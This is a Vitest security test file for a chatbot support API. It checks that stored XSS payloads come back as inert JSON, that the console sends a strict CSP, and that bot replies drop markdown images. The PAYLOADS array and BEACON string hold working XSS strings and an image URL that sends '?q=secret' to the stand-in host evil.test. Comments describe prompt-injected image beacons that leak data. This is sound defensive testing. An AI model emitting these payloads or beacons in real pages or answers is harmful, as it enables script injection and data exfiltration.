import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestApp, DEMO_ORIGIN, OWNER, readEvents, TENANT, type TestApp } from '../helpers/app'
import { startFakeOpenAI, type FakeOpenAI } from '../helpers/fake-openai'
import { ok, upload } from './tenants'

/**
 * XSS, API side: payloads stored through every write path (visitor messages, agent replies, FAQ
 * answers, uploaded document text, bot names, canned replies, rule names, tenant names) come back in
 * JSON only, as the same inert strings, with nosniff; the console's HTML carries a CSP; and the bot's
 * output never carries a markdown image (an exfiltration beacon). The widget and console renderers
 * have their own component tests (tests/widget/markdown.test.tsx, tests/e2e/widget-xss.test.ts).
 */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[click me](javascript:alert(1))',
  '![x](https://evil.test/p.png)',
  '"><svg onload=alert(1)>',
  "';alert(1);//",
  '{{constructor.constructor("alert(1)")()}}',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '\u2028\u2029<iframe srcdoc="<script>alert(1)</script>">',
]
const IMAGE = /!\[[^\]]*\]\([^)]*\)/

let llm: FakeOpenAI
let t: TestApp
let owner: Record<string, string>
let agent: Record<string, string>
let bot: string
let session: { id: string; auth: Record<string, string> }
const responses: { label: string; res: Response; body: string }[] = []

async function get(label: string, path: string, headers: Record<string, string>) {
  const res = await t.json('GET', path, undefined, headers)
  responses.push({ label, res, body: await res.clone().text() })
  return res
}

/** Every string anywhere in a parsed JSON value. */
function strings(v: unknown, out: string[] = []): string[] {
  if (typeof v === 'string') out.push(v)
  else if (Array.isArray(v)) v.forEach((x) => strings(x, out))
  else if (v && typeof v === 'object') Object.values(v).forEach((x) => strings(x, out))
  return out
}

beforeAll(async () => {
  llm = await startFakeOpenAI()
  t = await createTestApp({
    LLM_API_KEY: 'test-key',
    LLM_BASE_URL: llm.url,
    LLM_MODEL: 'fake-model',
    WORKER_POLL_MS: '60000',
  })
  owner = await t.login(OWNER)
  agent = await t.login()
  bot = (await t.deps.pool.query(`select id from bots where tenant_id = $1 limit 1`, [TENANT])).rows[0].id

  // Stored through every write path.
  const v = await t.visitor()
  session = v
  for (const [i, p] of PAYLOADS.entries()) {
    await ok(await v.send(p, `xss-${i}`))
    await ok(
      await t.json('POST', `/v1/tenants/${TENANT}/sessions/${v.id}/messages`, { content: p }, agent),
      201,
    )
    await ok(
      await t.json(
        'POST',
        `/v1/tenants/${TENANT}/knowledge/faqs`,
        { question: `Xss question ${i} wombat`, answer: `wombat ${p}`, language: 'en' },
        owner,
      ),
      201,
    )
    await ok(
      await t.json(
        'POST',
        `/v1/tenants/${TENANT}/canned-replies`,
        { shortcut: `xss${i}`, title: p, content: p },
        agent,
      ),
      201,
    )
    await ok(
      await t.json(
        'POST',
        `/v1/tenants/${TENANT}/escalation-rules`,
        { name: p, trigger_keywords: [`xsskw${i}`] },
        owner,
      ),
      201,
    )
  }
  await ok(
    await upload(
      t,
      TENANT,
      owner,
      `Numbat care guide.\n\n${PAYLOADS.join('\n\n')}\n\nNumbats eat termites.`,
      'numbat.txt',
    ),
    202,
  )
  await ok(await t.json('PATCH', `/v1/tenants/${TENANT}`, { name: PAYLOADS[4] }, owner))
  await ok(await t.json('PATCH', `/v1/bots/${bot}`, { name: PAYLOADS[1] }, owner))
  await t.deps.worker!.drain()

  await get('visitor messages', `/v1/sessions/${v.id}/messages`, v.auth)
  await get('visitor session', `/v1/sessions/${v.id}`, v.auth)
  await get('widget config', '/v1/widget/config?key=pk_demo', { origin: DEMO_ORIGIN })
  await get('inbox list', `/v1/tenants/${TENANT}/sessions`, agent)
  await get('inbox session', `/v1/tenants/${TENANT}/sessions/${v.id}`, agent)
  await get('faqs', `/v1/tenants/${TENANT}/knowledge/faqs`, owner)
  await get('sources', `/v1/tenants/${TENANT}/knowledge/sources`, owner)
  await get('canned replies', `/v1/tenants/${TENANT}/canned-replies`, agent)
  await get('rules', `/v1/tenants/${TENANT}/escalation-rules`, agent)
  await get('tenant', `/v1/tenants/${TENANT}`, agent)
  await get('me', '/v1/me', agent)
  await get('bots', `/v1/tenants/${TENANT}/bots`, agent)
  await get('bot', `/v1/bots/${bot}`, agent)
  const search = await t.json(
    'POST',
    `/v1/tenants/${TENANT}/knowledge/search`,
    { query: 'numbat care guide termites', k: 5 },
    owner,
  )
  responses.push({ label: 'search', res: search, body: await search.clone().text() })
  const err = await t.json(
    'POST',
    '/v1/sessions',
    { key: 'pk_demo' },
    { origin: 'http://"><script>alert(1)</script>.test' },
  )
  responses.push({ label: 'error echoing the Origin', res: err, body: await err.clone().text() })
  const notFound = await t.json('GET', `/v1/<script>alert(1)</script>`, undefined, {})
  responses.push({ label: 'unknown route', res: notFound, body: await notFound.clone().text() })
}, 60_000)
afterAll(async () => {
  await t.close()
  await llm.close()
})

describe('stored payloads come back as JSON strings, never as markup', () => {
  it('every response is application/json with nosniff', () => {
    expect(responses.length).toBeGreaterThan(15)
    for (const { label, res } of responses) {
      expect(res.headers.get('content-type'), label).toMatch(/^application\/json\b/)
      expect(res.headers.get('x-content-type-options'), label).toBe('nosniff')
      expect(res.headers.get('content-disposition'), label).toBeNull()
    }
  })

  it.each([
    // Text inputs are trimmed (the last payload starts with U+2028/U+2029, which trim() removes).
    ['visitor messages', (s: string[]) => PAYLOADS.every((p) => s.includes(p.trim()))],
    ['inbox session', (s: string[]) => PAYLOADS.every((p) => s.includes(p.trim()))],
    ['faqs', (s: string[]) => PAYLOADS.every((p) => s.includes(`wombat ${p}`))],
    ['canned replies', (s: string[]) => PAYLOADS.every((p) => s.includes(p.trim()))],
    ['rules', (s: string[]) => PAYLOADS.every((p) => s.includes(p.trim()))],
    ['widget config', (s: string[]) => s.includes(PAYLOADS[1]!)],
    ['bot', (s: string[]) => s.includes(PAYLOADS[1]!)],
    ['tenant', (s: string[]) => s.includes(PAYLOADS[4]!)],
  ] as const)(
    '%s: the payloads are the exact strings that were stored (no server-side HTML rewriting)',
    (label, check) => {
      const r = responses.find((x) => x.label === label)!
      expect(check(strings(JSON.parse(r.body))), `${label}: ${r.body.slice(0, 400)}`).toBe(true)
    },
  )

  it('an error that quotes request input is JSON with nosniff too', () => {
    const r = responses.find((x) => x.label === 'error echoing the Origin')!
    expect(r.res.status).toBe(403)
    expect(JSON.parse(r.body).error.code).toBe('origin_not_allowed')
  })

  it('SSE streams carrying payloads are text/event-stream with nosniff, each data line one JSON value', async () => {
    // The session is with an agent: the bot stays silent, only the visitor message is streamed back.
    const res = await t.app.request(`/v1/sessions/${session.id}/messages`, {
      method: 'POST',
      headers: { ...session.auth, 'content-type': 'application/json', accept: 'text/event-stream' },
      body: JSON.stringify({ content: PAYLOADS[0], client_message_id: 'xss-sse' }),
    })
    expect(res.headers.get('content-type')).toMatch(/^text\/event-stream/)
    expect(res.headers.get('x-content-type-options')).toBe('nosniff')
    const events = await readEvents(res, (e) => e.some((x) => x.event === 'done'))
    expect(events.find((e) => e.event === 'message')!.data.content).toBe(PAYLOADS[0])
  })
})

describe('the console HTML', () => {
  it('is served with a Content-Security-Policy that forbids inline script and framing', async () => {
    for (const path of ['/console/', '/console/inbox/some/deep/link']) {
      const res = await t.app.request(path)
      expect(res.status, path).toBe(200)
      expect(res.headers.get('content-type')).toMatch(/^text\/html/)
      const csp = res.headers.get('content-security-policy') ?? ''
      expect(csp, path).toMatch(/default-src 'self'/)
      expect(csp).toMatch(/frame-ancestors 'none'/)
      const script = /script-src ([^;]*)/.exec(csp)?.[1] ?? /default-src ([^;]*)/.exec(csp)![1]!
      expect(script).not.toMatch(/'unsafe-inline'|'unsafe-eval'|\*|data:|https?:/)
      expect(csp).not.toMatch(/connect-src [^;]*\*/)
      expect(res.headers.get('x-frame-options')).toBe('DENY')
      expect(res.headers.get('x-content-type-options')).toBe('nosniff')
    }
  })

  it('static JavaScript is served with its type and nosniff', async () => {
    for (const path of ['/widget.js', '/chat.js']) {
      const res = await t.app.request(path)
      expect(res.status, path).toBe(200)
      expect(res.headers.get('content-type')).toMatch(/^text\/javascript/)
      expect(res.headers.get('x-content-type-options')).toBe('nosniff')
    }
  })
})

describe('the bot never outputs a markdown image', () => {
  const sse = (content: string) =>
    t.app.request(`/v1/sessions/${session.id}/messages`, {
      method: 'POST',
      headers: { ...session.auth, 'content-type': 'application/json', accept: 'text/event-stream' },
      body: JSON.stringify({ content, client_message_id: crypto.randomUUID() }),
    })
  const BEACON =
    'Numbats eat termites [1]. ![x](https://evil.test/p.png?q=secret) <img src=x onerror=alert(1)> and [home](javascript:alert(1))'

  it('a model answer with an image and HTML is stored without them', async () => {
    const v = await t.visitor()
    llm.script.push({ reply: BEACON })
    const { reply } = await ok(await v.send('What do numbats eat?'))
    expect(reply.content).toMatch(/termites/)
    expect(reply.content).not.toMatch(IMAGE)
    expect(reply.content).not.toMatch(/<img|onerror/)
    const row = (
      await t.deps.pool.query(`select content from chatbot_conversations where id = $1`, [reply.id])
    ).rows[0]
    expect(row.content).not.toMatch(IMAGE)
  })

  it('the stored answer of a streamed model reply has no image either', async () => {
    const v = await t.visitor()
    session = v
    llm.script.push({ reply: BEACON })
    const events = await readEvents(await sse('What do numbats eat?'), (e) =>
      e.some((x) => x.event === 'done'),
    )
    const done = events.find((e) => e.event === 'done')!.data
    expect(done.content).not.toMatch(IMAGE)
  })

  // The streamed `delta` events are sanitised too, not only the stored content: a prompt-injected
  // `![x](https://evil.test/p.png?q=secret)` or `<img onerror>` must not reach any client of the SSE
  // API while the answer streams (the first-party widget renders alt text only, other clients may
  // not), and the deltas must concatenate to what is stored.
  it('the streamed deltas never carry a markdown image or HTML tag', async () => {
    const v = await t.visitor()
    session = v
    llm.script.push({ reply: BEACON })
    const events = await readEvents(await sse('What do numbats eat?'), (e) =>
      e.some((x) => x.event === 'done'),
    )
    const streamed = events
      .filter((e) => e.event === 'delta')
      .map((e) => e.data.text)
      .join('')
    expect(streamed).toMatch(/termites/)
    expect(streamed).not.toMatch(IMAGE)
    expect(streamed).not.toMatch(/<img/)
  })

  // Without a model (or when it fails) the answer quotes the best passage verbatim: a markdown image
  // planted in crawled or uploaded text (third-party content) must not become the bot's own words, so
  // bot messages never contain images whichever path produced them.
  it('an extractive answer quoting a planted image does not carry it', async () => {
    const v = await t.visitor()
    // The model is out of quota: the answer falls back to quoting the knowledge base.
    llm.script.push('quota')
    const { reply } = await ok(await v.send('numbat care guide termites'))
    expect(reply.message_type).toBe('ai')
    expect(reply.content).toMatch(/Numbat|numbat/)
    expect(reply.content).not.toMatch(IMAGE)
    expect(reply.content).not.toMatch(/<script|<img|onerror/)
  })
})
